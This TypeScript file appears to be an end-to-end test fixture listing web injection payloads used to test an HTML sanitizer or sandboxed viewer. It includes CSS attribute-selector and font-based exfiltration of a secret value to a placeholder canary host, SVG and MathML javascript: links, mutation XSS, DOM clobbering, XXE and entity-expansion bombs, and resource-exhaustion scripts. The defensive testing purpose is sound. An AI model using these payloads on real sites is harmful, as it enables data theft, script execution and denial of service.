/**
 * Attacks that the collections lack, by their technique; some use files that `tests/e2e/support/attack-files.ts`
 * serves. `{{canary}}` is an origin that must not get any request, `alert` reports that code has run.
 */
const raw = String.raw;
const secret = `<input name="secret" value="s3cret"><p id="t" class="leak">abc</p>`;

export const OWN_ATTACKS: readonly { readonly name: string; readonly payload: string }[] = [
  {
    name: 'CSS: attribute selectors that tell a value, character by character',
    payload: `${secret}<style>${Array.from('abcs3')
      .map((char) => `input[value^="${char}"]{background:url({{canary}}/is-${char})}`)
      .join(
        '',
      )}input:not([value*="x"]){list-style:url({{canary}}/not)}:has([value$="t"]) p{cursor:url({{canary}}/has),auto}
      @import url({{canary}}/next);</style>`,
  },
  {
    name: 'CSS: fonts that tell which characters there are',
    payload: `${secret}<style>${Array.from('abc')
      .map(
        (char) =>
          `@font-face{font-family:leak;src:url({{canary}}/has-${char});unicode-range:U+${char.charCodeAt(0).toString(16)}}`,
      )
      .join(
        '',
      )}@font-face{font-family:leak;src:local("x"),url("{{canary}}/any")format("woff2")tech(color-COLRv1);unicode-range:U+0-10FFFF,U+4??}
      .leak{font-family:leak}.leak::first-line{font-family:leak,url({{canary}}/family)}</style>`,
  },
  {
    name: 'CSS: imports in all spellings',
    payload: raw`<style>@\000069mport "{{canary}}/1";@IMPORT'{{canary}}/2';@import/**/url(/**/{{canary}}/3);@layer a,b;@import url({{canary}}/4)layer(a)supports(background:url({{canary}}/5))screen;</style>
      <style><!--@import "{{canary}}/6";--></style><style>@charset "x";@import "data:text/css;base64,QGltcG9ydCAie3tjYW5hcnl9fS83Ijs=";a{}@import "{{canary}}/8";</style>
      <style>@import "\68ttp:{{canary}}/9";@import url(\//{{canary}}/10);@import src("{{canary}}/11");@\69\6d\70ort"{{canary}}/12";@media screen{@import "{{canary}}/13";}</style>
      <style>@import "{{canary}}/14" supports(;}*{background:url({{canary}}/15)});@import "{{canary}}/16" layer(x;{});</style>`,
  },
  {
    name: 'CSS: picture sets and functions with prefixes',
    payload: `<style>p{background:-webkit-image-set("{{canary}}/1" 1x,url({{canary}}/2)2x);background:image-set("{{canary}}/3"type("image/png"),linear-gradient(red,red));cursor:-webkit-image-set(url({{canary}}/4)1x),auto}
      i{background:-webkit-cross-fade(url({{canary}}/5),url("{{canary}}/6"),.5);background:cross-fade(50% image-set("{{canary}}/7"1x),red);-webkit-mask:-webkit-image-set("{{canary}}/8"1x);mask-border:url({{canary}}/9)1;-webkit-border-image:url({{canary}}/10)1}
      b{-webkit-box-reflect:below 0 url({{canary}}/11);-webkit-mask-box-image-source:url({{canary}}/12);content:image-set("{{canary}}/13"1x);shape-outside:image-set("{{canary}}/14"1x);background:-webkit-image("{{canary}}/15");background:-moz-image-rect("{{canary}}/16",0,0,0,0)}
      u{background:IMAGE-SET(/**/"{{canary}}/17"/**/1x);background:image-set(image-set("{{canary}}/18"1x)1x);filter:-webkit-filter("{{canary}}/19");background:filter("{{canary}}/20",blur(1px));list-style-image:-webkit-gradient(linear,0 0,0 0,from(url({{canary}}/21)))}</style><p>p<i>i</i><b>b</b><u>u</u>`,
  },
  {
    name: 'CSS: addresses out of attributes, properties, functions and conditions',
    payload: raw`<style>@property --u{syntax:"<url>";inherits:true;initial-value:url({{canary}}/1)}@property --i{syntax:"<image>";inherits:true;initial-value:image-set("{{canary}}/2"1x)}@property --s{syntax:"<string>";inherits:true;initial-value:"{{canary}}/3"}
      @function --f(--a type(*)){result:url({{canary}}/4)}@function --g(--a){result:src(var(--a))}@function --h(){--l:"{{canary}}/5";result:image-set(var(--l)1x)}
      #a{background:attr(data-u type(*))}#b{background:attr(data-u type(<image>))}#c{background:image-set(attr(data-s)1x)}#d{background:image-set(attr(data-s raw-string)1x)}#e{--x:attr(data-u type(*));background:var(--x)}#f{background:src(attr(data-s))}
      #g{background:var(--u)}#h{background:var(--i)}#i{background:image-set(var(--s)1x)}#j{background:--f()}#k{background:--g("{{canary}}/6")}#l{background:--h()}#m{background:if(style(--u):url({{canary}}/7);else:image-set("{{canary}}/8"1x))}
      #n{--q:url(;--r:{{canary}}/9);background:var(--q)var(--r)}#o{--v:"{{canary}}/10";background:url(var(--v));background:image-set(var(--none,"{{canary}}/11")1x)}#p{background:inherit(--i)}#q{background:first-valid(url({{canary}}/12))}</style>
      ${Array.from('abcdefghijklmnopq')
        .map((id) => `<i id="${id}" data-u="url({{canary}}/attr-${id})" data-s="{{canary}}/text-${id}">${id}</i>`)
        .join('')}`,
  },
  {
    name: 'CSS: escapes that tokenizers may read in two ways',
    payload: raw`<style>a{background:\75\000072\6C({{canary}}/1);background:u\
rl({{canary}}/2);background:url(\
{{canary}}/3);background:url("\
{{canary}}/4");background:ur\6c ("{{canary}}/5");b\61 ckground:url({{canary}}/6)}
      i{background:url(x\)url({{canary}}/7);background:url("x\"),url({{canary}}/8");background:/*\*/url({{canary}}/9)/* */;background:url(/**/x);color:re\/**/d;background:"\"url({{canary}}/10)"url({{canary}}/11)}
      b{--a:\;background:url({{canary}}/12);--b:"
      ";background:url({{canary}}/13)}u\{background:url({{canary}}/14)}[a="\]{}"]{}*{background:ｕrl({{canary}}/15);background:ſrc("{{canary}}/16");background:url\28{{canary}}/17\29}</style>
      <style>p{background:url({{canary}}/18&#41;}</style><a style="background:&#117;rl({{canary}}/19)">a</a><i style="background:url&lpar;{{canary}}/20&rpar;">i</i><b style="background:u&#x5c;rl(&quot;{{canary}}/21&quot;)">b</b>`,
  },
  {
    name: 'CSS: rules of all kinds that hold addresses',
    payload: `<style>@color-profile --p{src:url({{canary}}/1)}@font-palette-values --q{font-family:x;src:url({{canary}}/2)}@font-feature-values x{@styleset{a:1}}@view-transition{navigation:auto;types:url({{canary}}/3)}@position-try --t{background:url({{canary}}/4)}
      @counter-style c{system:cyclic;symbols:url({{canary}}/5);additive-symbols:1 url({{canary}}/6)}@container style(--x:url({{canary}}/7)){p{background:url({{canary}}/8)}}@page :first{@top-left{content:url({{canary}}/9)}}@supports (background:url({{canary}}/10)){p{list-style:url({{canary}}/11);display:list-item}}
      @document url-prefix("{{canary}}/12"){p{color:red}}@-moz-document url({{canary}}/13){p{color:red}}@scope(p)to([a="url({{canary}}/14)"]){:scope{mask:url({{canary}}/15)}}@starting-style{p{background:url({{canary}}/16)}}@keyframes k{to{cursor:url({{canary}}/17),auto}}p{animation:k 1ms infinite}
      p::after{content:url({{canary}}/18)/"x"}p::marker{content:url({{canary}}/19)}p::view-transition{background:url({{canary}}/20)}p::-webkit-resizer{background:url({{canary}}/21)}@media print and (width>0){p{background:url({{canary}}/22)}}</style><p>p`,
  },
  {
    name: 'SVG: animations of addresses in all spellings',
    payload: `<svg xmlns:x="http://www.w3.org/1999/xlink"><a id="l" href="#">l<animate attributeName="x:href" attributeType="XML" to="javascript:alert(1)" begin="0s" fill="freeze"/><set attributeName="&#104;ref" to="javascript:alert(2)" begin="click"/><animate attributeName="href" values="#;javascript:alert(3);#" keyTimes="0;.1;1" dur="1s" repeatCount="indefinite"/><text y="20">click</text></a>
      <set href="#l" attributeName="xlink:href" to="javascript:alert(4)"/><animate x:href="#l" attributeName="href" by="javascript:alert(5)"/><set href="#l" attributeName="onclick" to="alert(6)"/><set href="#l" attributeName="style" to="background:url({{canary}}/1)"/><set href="#l" attributeName="target" to="_top"/>
      <rect id="r" width="9" height="9"><set attributeName="fill" to="url({{canary}}/2#x)"/><animate attributeName="filter" values="url({{canary}}/3#x);none" dur="1s"/><set attributeName="mask" attributeType="CSS" to="url('{{canary}}/4#x')"/><animate attributeName="cursor" from="url({{canary}}/5)" to="u\\72l({{canary}}/6)"/></rect>
      <image width="9" height="9"><set attributeName="href" to="{{canary}}/7"/></image><feImage><animate attributeName="xlink:href" to="{{canary}}/8"/></feImage><use><set attributeName="href" to="{{canary}}/9#x"/></use><animateMotion><mpath><set attributeName="href" to="{{canary}}/10#x"/></mpath></animateMotion><script><set attributeName="href" to="data:,alert(7)"/></script></svg>`,
  },
  {
    name: 'SVG: parts of other documents, and of this one',
    payload: `<svg><symbol id="s"><image href="{{canary}}/1" onload="alert(1)" width="9" height="9"/><foreignObject width="99" height="9"><iframe srcdoc="<script>alert(2)</script>"></iframe><a href="javascript:alert(3)">a</a></foreignObject><script>alert(4)</script></symbol><use href="#s" onload="alert(5)"/>
      <use href="data:image/svg+xml;base64,PHN2ZyBpZD0ieCIgeG1sbnM9Imh0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnIj48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+#x"/><use xlink:href="test.svg#x"/><use href="//x:y@evil.test/#x"/><use href="\\\\evil.test\\#x"/><use href="jar:{{canary}}/2!/x#x"/>
      <textPath href="{{canary}}/3#x">t</textPath><tref xlink:href="{{canary}}/4#x"/><altGlyph xlink:href="{{canary}}/5#x">g</altGlyph><linearGradient id="g" href="{{canary}}/6#x"/><filter id="f"><feImage href="#s"/><feImage xlink:href="{{canary}}/7"/></filter><rect width="9" height="9" fill="url(#g)" filter="url(#f)"/>
      <font-face><font-face-src><font-face-uri xlink:href="{{canary}}/8"/></font-face-src></font-face><color-profile xlink:href="{{canary}}/9"/><cursor xlink:href="{{canary}}/10"/><svg xml:base="{{canary}}/"><image href="base" width="9" height="9"/></svg><view viewTarget="{{canary}}/11"/></svg>`,
  },
  {
    name: 'SVG: uses of uses',
    payload: `<svg width="90" height="90"><g id="u0"><rect width="1" height="1" onclick="alert(1)"/></g>${[1, 2, 3, 4]
      .map((level) => `<g id="u${level}">${`<use href="#u${level - 1}"/>`.repeat(8)}</g>`)
      .join('')}<g id="c"><use href="#c"/></g><use href="#d" id="e"/><use href="#e" id="d"/></svg>`,
  },
  {
    name: 'SVG: HTML in a foreign object',
    payload: `<svg><foreignObject width="200" height="99"><link rel="stylesheet" href="{{canary}}/1"><meta http-equiv="refresh" content="9;url={{canary}}/2"><base href="{{canary}}/"><form action="javascript:alert(1)"><button formaction="javascript:alert(2)">b</button></form><object data="{{canary}}/3"></object><embed src="{{canary}}/4"><video src="{{canary}}/5" poster="{{canary}}/6"></video><style>*{background:url({{canary}}/7)}</style><svg><style>*{cursor:url({{canary}}/8),auto}<![CDATA[</style><img src=x onerror=alert(3)>]]></style></svg></foreignObject></svg>`,
  },
  {
    name: 'MathML: links, pictures and documents',
    payload: `<math href="javascript:alert(1)" xlink:href="javascript:alert(2)"><mrow href="{{canary}}/1"><maction actiontype="toggle" selection="2" href="javascript:alert(3)"><mi>a</mi><mtext><a href="javascript:alert(4)">b</a></mtext></maction><mglyph src="{{canary}}/2"/><mi mathbackground="url({{canary}}/3)" style="background:url({{canary}}/4)" background="{{canary}}/5">c</mi></mrow>
      <semantics><mi>d</mi><annotation src="{{canary}}/6" encoding="text/html">&lt;img src=x onerror=alert(5)></annotation><annotation-xml encoding="text/html" src="{{canary}}/7"><iframe srcdoc="<script>alert(6)</script>"></iframe><base href="{{canary}}/"></annotation-xml><annotation-xml encoding="image/svg+xml"><svg><script>alert(7)</script></svg></annotation-xml></semantics><ms href="data:text/html,<script>alert(8)</script>">e</ms></math>`,
  },
  {
    name: 'Namespaces: elements and attributes made in the wrong ones',
    payload: `<div id="m"></div><script>const m=document.getElementById('m');const X='http://www.w3.org/1999/xlink';
      for(const u of ['http://www.w3.org/1999/xhtml','http://www.w3.org/2000/svg','http://www.w3.org/1998/Math/MathML','http://www.w3.org/1999/XSL/Transform','http://www.mozilla.org/keymaster/gatekeeper/there.is.only.xul','http://www.w3.org/2002/xforms',' http://www.w3.org/1999/xhtml','HTTP://www.w3.org/2000/svg'])
      for(const n of ['script','svg:script','html:script','math:script','transform','use','h:use','foreignObject','FOREIGNOBJECT','h:a','link','h:link','h:style','frame','h:iframe','handler','h:base','h:meta','image','video','h:object'])try{const e=document.createElementNS(u,n);
      e.setAttributeNS(X,'javascript:href','javascript:alert(1)');e.setAttributeNS('http://www.w3.org/XML/1998/namespace','xml:base','{{canary}}/');e.setAttributeNS(null,'href','{{canary}}/1');e.setAttribute('src','{{canary}}/2');e.setAttributeNS('urn:x','on:load','alert(2)');e.setAttribute('onload','alert(3)');e.append('alert(4)');if(!/meta|base|script/i.test(n)||!/xhtml$/.test(u)&&!/svg$/.test(u))m.append(e)}catch{}</script>`,
  },
  {
    name: 'Namespaces: integration points within each other',
    payload: `<svg><desc><math><annotation-xml encoding="application/xhtml+xml"><svg><title><style><![CDATA[</title><img src=x onerror=alert(1)>]]></style></title><foreignObject><math><mtext><mglyph><svg><mtext><style><img title="</style><img src=x onerror=alert(2)>"></style></mtext></svg></mglyph></mtext></math></foreignObject></svg></annotation-xml></math></desc></svg>
      <table><svg><desc><td><math><mi><table><mglyph><style><!--</style><a title="--><img src=x onerror=alert(3)>"></style></mglyph></table></mi></math></td></desc></svg></table><math><mo><svg><script>alert(4)</script></svg><noscript><style></noscript><img src=x onerror=alert(5)></style></mo></math>`,
  },
  {
    name: 'Clobbering: names that the view and the shell go by',
    payload: [
      'vitrine',
      'vitrine-view',
      'vitrine-overlay',
      'vitrine-page-frame',
      'vitrine-frame',
      'frames',
      'contentDocument',
      'sandbox',
      'importmap',
    ]
      .map(
        (name) =>
          `<iframe name="${name}" id="${name}" data-vitrine-frame="main"></iframe><form name="${name}"><input name="${name}" id="${name}"></form><a id="${name}" name="${name}" href="javascript:alert(1)" data-vitrine-state="ready">a</a><object name="${name}" id="${name}"></object><template id="${name}"><script>alert(2)</script></template>`,
      )
      .join(''),
  },
  {
    name: 'Mutation: markup that changes when it is written out and read again',
    payload: `<div id="a"><form><div></form><form id="x"><svg><p><style><g title="</style><img src=x onerror=alert(1)>"></style></p></svg></form></div><listing>&lt;img src=x onerror=alert(2)&gt;</listing><table><caption><svg><desc><table><caption></table><a href="javascript:alert(3)">x</a></desc></svg></caption></table><noscript>&lt;/noscript>&lt;img src=x onerror=alert(4)></noscript><p title="&lt;!--"><b title="--&gt;<img src=x onerror=alert(5)>"></b></p></div>
      <script>const a=document.getElementById('a');for(let n=0;n<4;n++)a.innerHTML=a.innerHTML;setTimeout(()=>{a.innerHTML+='';const d=new DOMParser().parseFromString(a.innerHTML,'text/html');a.append(...document.adoptNode(d.body).childNodes);a.outerHTML=new XMLSerializer().serializeToString(a)},20)</script>`,
  },
  {
    name: 'Long and deep: values, names, lists and trees',
    payload: `<div id="d"></div><script>const d=document.getElementById('d');const make=(n)=>document.createElement(n);const e=make('a');for(let n=0;n<900;n++)e.setAttribute('a'+n,'javascript:alert(1)//'.repeat(20));e.href='javascript:'+'%0a'.repeat(99999)+'alert(2)';d.append(e);
      const f=make('x-'+'y'.repeat(70000));f.setAttribute('on'+'z'.repeat(70000),'alert(3)');d.append(f);let t=d;for(let n=0;n<450;n++){const c=document.createElementNS(n%3?'http://www.w3.org/2000/svg':'http://www.w3.org/1999/xhtml',n%3?'a':'form');c.setAttribute('href','javascript:alert(4)');t.append(c);t=c}
      const s=make('style');s.append('a'.repeat(200000)+'{}'+'@media screen{'.repeat(400)+'p{background:url({{canary}}/1)}'+'}'.repeat(400)+'p{--x:'+'url('.repeat(9999)+'{{canary}}/2)}','@import "{{canary}}/3";'.repeat(2000),'[a="'+'\\\\'.repeat(99999)+'"]{background:url({{canary}}/4)}');d.append(s);
      const i=make('img');i.srcset=Array.from({length:5000},(_,n)=>'{{canary}}/5 '+n+'w').join();d.append(i);d.style.background=Array.from({length:2000},()=>'url({{canary}}/6)').join()</script>`,
  },
  {
    name: 'Pictures that are something else, are too large or never end',
    payload: [
      'bomb.png',
      'bomb.gif',
      'truncated.png',
      'document.png',
      'script.gif',
      'entities.svg',
      'external.svg',
      'scripts.svg',
      'endless.png',
      'empty.png',
    ]
      .map(
        (file) =>
          `<img src="/attack/${file}" width="40" height="40" onload="alert(1)"><div style="background:url(/attack/${file});width:9px;height:9px"></div><svg width="9" height="9"><image href="/attack/${file}" width="9" height="9"/><use href="/attack/${file}#x"/></svg>`,
      )
      .join(''),
  },
  {
    name: 'Fonts that are something else, are cut off or too large',
    payload: `<style>${['truncated.woff2', 'bomb.woff', 'document.png', 'entities.svg', 'empty.png', 'bomb.png']
      .map(
        (file, index) =>
          `@font-face{font-family:f${index};src:url(/attack/${file})}.f${index}{font-family:f${index}}@font-face{font-family:g${index};src:url(/attack/${file})format("svg"),url(/attack/${file}#x)}.g${index}{font-family:g${index}}`,
      )
      .join(
        '',
      )}</style>${[0, 1, 2, 3, 4, 5].map((index) => `<p class="f${index}">f</p><p class="g${index}">g</p>`).join('')}<script>for(const at of ['truncated.woff2','bomb.woff'])document.fonts.add(new FontFace('late','url(/attack/'+at+')'));document.fonts.load('9px late').catch(()=>0)</script>`,
  },
  {
    name: 'Pictures within their own address that run, load or are too large',
    payload: `<script>const png=(w,h)=>{const b=[137,80,78,71,13,10,26,10,0,0,0,13,73,72,68,82,w>>24,w>>16&255,w>>8&255,w&255,h>>24,h>>16&255,h>>8&255,h&255,8,6,0,0,0,0,0,0,0];return 'data:image/png;base64,'+btoa(String.fromCharCode(...b))};for(const [w,h] of [[65535,65535],[2147483647,1],[1,2147483647]]){const i=new Image();i.src=png(w,h);document.body.append(i)}</script>
      <img src="data:image/svg+xml,&lt;svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'>&lt;script>alert(2)&lt;/script>&lt;image href='{{canary}}/1'/>&lt;foreignObject>&lt;iframe xmlns='http://www.w3.org/1999/xhtml' src='{{canary}}/2'/>&lt;/foreignObject>&lt;style>@import '{{canary}}/3';*{background:url({{canary}}/4)}&lt;/style>&lt;/svg>">
      <img src="data:image/svg+xml,&lt;!DOCTYPE svg [&lt;!ENTITY a 'aaaaaaaaaa'>&lt;!ENTITY b '&amp;a;&amp;a;&amp;a;&amp;a;&amp;a;&amp;a;&amp;a;&amp;a;'>&lt;!ENTITY c '&amp;b;&amp;b;&amp;b;&amp;b;&amp;b;&amp;b;&amp;b;&amp;b;'>&lt;!ENTITY x SYSTEM '{{canary}}/5'>]>&lt;svg xmlns='http://www.w3.org/2000/svg'>&lt;text>&amp;c;&amp;x;&lt;/text>&lt;/svg>"><img src="data:image/png,GIF89a&lt;script>alert(3)&lt;/script>"><img src="data:text/html,&lt;script>alert(4)&lt;/script>"><img src="data:image/svg+xml;charset=x&quot;onerror=&quot;alert(5),x">`,
  },
];
